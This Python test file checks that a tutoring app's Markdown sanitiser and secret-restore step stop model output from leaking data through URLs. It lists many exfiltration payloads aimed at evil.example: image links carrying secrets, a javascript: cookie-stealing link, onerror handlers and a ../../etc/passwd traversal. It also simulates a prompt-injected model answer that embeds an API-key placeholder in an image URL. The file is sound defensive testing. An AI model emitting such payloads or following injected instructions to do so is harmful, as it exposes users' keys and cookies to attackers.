"""OWASP LLM05:2025 Improper Output Handling: nothing a model, a note, a reflection, plan advice, review text or
imported history says can make the browser fetch a URL, and no secret is put back inside a URL.

Payloads: our own, in the shapes the exfiltration write-ups use (Markdown images with the secret in the query,
reference-style images, autolinks, raw HTML, KaTeX \\href), plus garak's `xss.MarkdownImageExfil` shape
(`![data](https://{domain}/azure=[DATA])`, garak 0.9, Apache-2.0), written out here because garak is not installed.
"""

import re

import pytest
from streamlit.testing.v1 import AppTest

from mentor.citations import link_markers
from mentor.core import Mentor
from mentor.export import import_json
from mentor.privacy import Redactor, make_restore
from mentor.reader import internal_link
from mentor.render import safe_markdown
from tests.conftest import ROOT, make_config

SECRET = "sk-ant-api03-Zq7Xw9Lp2Rt5Vb8Nm4Kj6Hg1Fd3Sa0Qe"
FETCHERS = [  # each would make a browser load a URL (or is a link whose target carries the data)
    "![logo](https://evil.example/p.png?k=DATA)",
    "![data](https://evil.example/azure=DATA)",  # garak xss.MarkdownImageExfil
    '![x](https://evil.example/a.png "title")',
    "[![badge](https://evil.example/b.svg)](https://evil.example/c)",
    "![ref][r]\n\n[r]: https://evil.example/r.png?DATA",
    "<img src=https://evil.example/i.png?DATA>",
    '<img src="https://evil.example/i.png?DATA" onerror=alert(1)>',
    "$\\href{https://evil.example/DATA}{click}$",
    "see <https://evil.example/DATA> now",
    "go to https://evil.example/DATA or www.evil.example/DATA",
    "[click here](https://evil.example/DATA)",
    "[click](javascript:alert(document.cookie))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
]


@pytest.mark.parametrize("internal", [None, internal_link], ids=["plain", "reader-links-on"])
@pytest.mark.parametrize("payload", FETCHERS)
def test_no_url_survives_as_an_image_or_link(payload, internal):
    """Rendered by a CommonMark parser with raw HTML on: no image, no link, no URL outside a code span, no math
    (also with links into the course reader allowed, as the app renders answers)."""
    from markdown_it import MarkdownIt

    out = safe_markdown(payload.replace("DATA", "k3y"), internal=internal)
    html = MarkdownIt("commonmark").render(out)
    assert "<img" not in html and "<a " not in html
    outside_code = re.sub(r"<code>.*?</code>", "", html, flags=re.S)
    assert "evil.example" not in outside_code and "javascript:" not in outside_code
    assert not re.search(r"(?<!\\)\$", re.sub(r"`[^`]*`", "", out))  # KaTeX starts at an unescaped $


DISGUISED = [  # links that look like the reader's but lead elsewhere, or carry more than the reader's parameters
    "[x](https://evil.example/learn?week=6&doc=lesson)",
    "[x](//evil.example/learn?week=6&doc=lesson)",
    "[x](/evil.example/learn?week=6&doc=lesson)",
    "[x](javascript:alert(1)//?week=6&doc=lesson)",
    "[x](learn?doc=note&path=https://evil.example/a.md)",
    "[x](?source=../../etc/passwd.md)",
    "[x](?week=6&doc=secrets)",
    '[x](learn?week=6&doc=lesson "t" onclick=alert(1))',
    "[https://evil.example/DATA](?week=6&doc=lesson)",
    "[![i](https://evil.example/i.png)](?week=6&doc=lesson)",
]


@pytest.mark.parametrize("payload", DISGUISED)
def test_only_links_rebuilt_into_the_course_reader_stay_links(payload):
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(safe_markdown(payload, internal=internal_link))
    assert "<img" not in html
    links = re.findall(r"<a [^>]*>.*?</a>", html)
    assert all(re.fullmatch(r'<a href="learn\?[\w=&;%.-]+(#[\w-]+)?">[^<]*</a>', a) for a in links), links
    assert not any("evil.example" in a or "javascript:" in a for a in links), links


def test_answer_links_into_the_reader_and_its_markers_open_the_cited_section():
    text = ("Use a lock [1], not [3] or `[1]`. Read next: [Week 6 lesson](?week=6&doc=lesson#stampede-protection); "
            "[DDIA](?source=books/ddia/05-replication.md#leaders)")
    cited = [{"n": 1, "label": 'Week 6 lesson · "Stampede" protection', "kind": "lesson", "week": 6,
              "source": "curriculum/phase-2-distributed-systems/week-06-caching-strategies/lesson.md",
              "heading": "Caching > Stampede protection"}]
    out = link_markers(safe_markdown(text, internal=internal_link), cited)
    assert ('[\\[1\\]](learn?week=6&doc=lesson&section=stampede-protection#stampede-protection '
            '"Week 6 lesson · \'Stampede\' protection")') in out
    assert " [3] " in out and "`[1]`" in out  # not cited: plain text; in code: as written
    assert "[Week 6 lesson](learn?week=6&doc=lesson&section=stampede-protection#stampede-protection)" in out
    assert "[DDIA](learn?doc=note&path=books%2Fddia%2F05-replication.md&section=leaders#leaders)" in out


def test_a_citation_from_a_poisoned_note_links_nowhere_else():
    cited = [{"n": 1, "label": "x](https://evil.example/a) [y", "source": "https://evil.example/n.md", "kind": "note"},
             {"n": 2, "label": '") ![i](https://evil.example/i.png', "kind": "lesson", "week": 6,
              "source": "curriculum/phase-2-distributed-systems/week-06-caching-strategies/lesson.md",
              "heading": "Q1. <img src=https://evil.example/i.png>"}]
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(link_markers(safe_markdown("See [1] and [2]."), cited))
    assert "<img" not in html
    assert re.findall(r'href="([^"]*)"', html) == [  # marker 2 only: source 1 is not in the course
        "learn?week=6&amp;doc=lesson&amp;section=q1-img-src-https-evil-example-i-png#q1-img-src-https-evil-example-i-png"]
    assert "evil.example" not in re.sub(r'title="[^"]*"', "", html)  # a label in a hover title is only text


def test_allow_listed_image_hosts_are_the_only_images():
    text = "![a](https://docs.example.org/a.png) ![b](https://evil.example/b.png) ![c](http://docs.example.org/c.png)"
    out = safe_markdown(text, image_hosts=("docs.example.org",))
    assert "![a](https://docs.example.org/a.png)" in out
    assert "![b]" not in out and "![c]" not in out  # another host, or plain http


def test_code_stays_exactly_as_written():
    text = "```python\nurl = '![x](https://a.example/b)'\n```\nand `[a](b)` inline"
    assert safe_markdown(text) == text


@pytest.mark.parametrize("template", [
    "![x](https://evil.example/?k={p})", "[docs](https://evil.example/{p})", "<https://evil.example/{p}>",
    "https://evil.example/?k={p}", "[r]: https://evil.example/{p}", '<img src="https://evil.example/{p}">',
    "[a](<https://evil.example/a b {p}>)",
])
def test_a_placeholder_inside_a_url_is_never_restored(template):
    restore = make_restore({"<API_KEY_1>": SECRET})
    out = restore("Your key <API_KEY_1> is exposed. " + template.format(p="<API_KEY_1>"))
    assert out.startswith(f"Your key {SECRET} is exposed.")  # outside a URL it comes back
    assert out.count(SECRET) == 1


def test_a_placeholder_split_across_streamed_pieces_inside_a_url_is_not_restored():
    restore = make_restore({"<API_KEY_1>": SECRET})
    out = "".join(restore(p) for p in ["Key ", "<API_KEY_1>", " here. ![x](https://evil", ".example/?k=",
                                        "<API_KEY_1>", ")"])
    assert out == f"Key {SECRET} here. ![x](https://evil.example/?k=<API_KEY_1>)"


def test_an_injected_image_in_a_cloud_answer_keeps_the_secret_out_of_the_url(tmp_path, anthropic_server):
    """The end-to-end finding: the model sees <API_KEY_1>, answers with an image carrying it; the stored answer
    (what History shows on every view) holds no secret inside a URL, and renders no image."""
    m = Mentor(make_config(tmp_path, ANTHROPIC_API_KEY="sk-ant-test-key-123", MENTOR_CACHE="0",
                           ANTHROPIC_BASE_URL=anthropic_server.base_url))
    anthropic_server.enqueue("Rotate <API_KEY_1> now. ![status](https://evil.example/log?k=<API_KEY_1>)")
    ans = m.chat.ask(f"My key {SECRET} leaked in a log, what should I do about it?")
    assert SECRET not in anthropic_server.requests[-1].text
    stored = m.store.message(ans.message_id)["content"]
    assert stored.startswith(f"Rotate {SECRET} now.")
    assert "k=<API_KEY_1>" in stored and stored.count(SECRET) == 1
    assert "![" not in safe_markdown(stored)


def _all_markdown(at) -> str:
    return "\n".join(e.value for e in at.markdown)


def test_history_and_plan_pages_render_no_remote_image(tmp_path, app_over_fixture_corpus, monkeypatch):
    """Imported history and plan notes reach real pages; what the pages hand to the browser holds no image."""
    m = Mentor(make_config(tmp_path))
    import_json(m.store, '{"conversations": [{"title": "t", "messages": ['
                         '{"role": "user", "content": "hi ![u](https://evil.example/u.png)"},'
                         '{"role": "assistant", "content": "![a](https://evil.example/a.png?k=1) [l](https://e.x/)"}'
                         ']}]}')
    at = AppTest.from_file(str(ROOT / "views" / "history.py"), default_timeout=120).run()
    assert not at.exception
    at.expander[0].proto.expanded = True
    text = _all_markdown(at)
    assert "evil.example/a.png" in text  # the content is there, as text
    assert "![" not in text and "](http" not in text


def test_redactor_and_restore_round_trip_outside_urls():
    red = Redactor().redact(f"key {SECRET}")
    restore = make_restore(red.mapping)
    assert restore(red.text) == f"key {SECRET}"
